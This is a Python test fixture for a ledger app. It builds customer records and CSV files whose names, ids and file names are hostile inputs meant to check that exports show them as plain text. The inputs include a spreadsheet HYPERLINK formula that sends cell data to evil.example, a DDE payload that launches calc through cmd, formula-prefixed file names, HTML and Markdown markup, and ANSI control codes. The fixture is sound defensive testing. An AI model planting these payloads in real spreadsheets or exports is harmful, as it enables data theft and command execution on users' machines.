"""A small ledger whose customers, ids, documents and activities are hostile: formulas, markup, Markdown, control characters.

Every value is a plausible export of a careless or malicious sender; the exports and the app
must write and show each one as the text it is. The dates put everything open and overdue at
AS_OF, the last day of the data.
"""

from __future__ import annotations

import csv
from datetime import date, timedelta
from pathlib import Path

from ledgers import ledger_from_rows

AS_OF = date(2026, 3, 31)
IMAGE_URL = "http://127.0.0.1:1/x.png"
LINK_URL = "http://127.0.0.1:1/"
MARKDOWN_IMAGE = f"![x]({IMAGE_URL})"
MARKDOWN_LINK = f"[pay]({LINK_URL})"
FORMULA_LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
FORMULA_DDE = "=cmd|' /C calc'!A0"
MARKUP = f'<b>gras</b> <a href="{LINK_URL}">lien</a> <img src="{IMAGE_URL}">'

# What a workspace can hold whatever the importers strip: no control characters.
PRINTABLE_NAMES = (FORMULA_LINK, FORMULA_DDE, "+33 1 23 45 67 89", "-Garage Moins", "@SUM(1+1)", MARKUP,
                   MARKDOWN_IMAGE, MARKDOWN_LINK, "http://127.0.0.1:1/bare", "Dupont & Fils :red[rouge] $x$ _i_ **g**")
CONTROL_NAMES = ("\tTabulation", "\rRetour", "\x1b[2J\x1b[31mANSI rouge\x1b[0m")
HOSTILE_NAMES = PRINTABLE_NAMES + CONTROL_NAMES
# Ids start with every formula trigger too.
ID_PREFIXES = ("=", "+", "-", "@")


def customer_id(index: int) -> str:
    return f"{ID_PREFIXES[index % len(ID_PREFIXES)]}C{index}"


def _rows(names) -> tuple[list[dict], list[dict]]:
    documents, settlements = [], []
    for index, name in enumerate(names):
        cid = customer_id(index)
        activity = names[(index + 1) % len(names)]
        issued = date(2025, 11, 1) + timedelta(days=7 * index)
        documents.append({"document_id": f"{ID_PREFIXES[index % 4]}F{index}", "customer_id": cid, "customer_name": name,
                          "activity": activity, "issue_date": issued, "due_date": issued + timedelta(days=30),
                          "amount": 1000 + 100 * index})
        # A credit note left unapplied, not yet due: a negative amount and negative days must stay numbers.
        documents.append({"document_id": f"{ID_PREFIXES[(index + 1) % 4]}A{index}", "customer_id": cid,
                          "customer_name": name, "activity": activity, "issue_date": date(2026, 3, 2),
                          "due_date": date(2026, 4, 15), "amount": -300})
        settlements.append({"settlement_id": f"{ID_PREFIXES[(index + 2) % 4]}P{index}",
                            "document_id": f"{ID_PREFIXES[index % 4]}F{index}", "customer_id": cid,
                            "date": date(2026, 3, 10), "amount": 100, "kind": "cash"})
    return documents, settlements


def hostile_ledger(names=HOSTILE_NAMES):
    """The canonical ledger, control characters included."""
    return ledger_from_rows(*_rows(names))


DOCUMENTS_FILE = "=1+2;HYPERLINK.csv"
SETTLEMENTS_FILE = "@règlements.csv"


def write_hostile_files(directory: Path, names=PRINTABLE_NAMES) -> list[Path]:
    """The canonical pair as CSV files with hostile file names, for a workspace import."""
    documents, settlements = _rows(names)
    directory.mkdir(parents=True, exist_ok=True)
    paths = [directory / DOCUMENTS_FILE, directory / SETTLEMENTS_FILE]
    for path, rows, columns in (
        (paths[0], documents, ("document_id", "customer_id", "customer_name", "activity", "issue_date", "due_date", "amount")),
        (paths[1], settlements, ("settlement_id", "document_id", "customer_id", "date", "amount", "kind")),
    ):
        with path.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle)
            writer.writerow(columns)
            for row in rows:
                writer.writerow([row[c].isoformat() if isinstance(row[c], date) else row[c] for c in columns])
    return paths
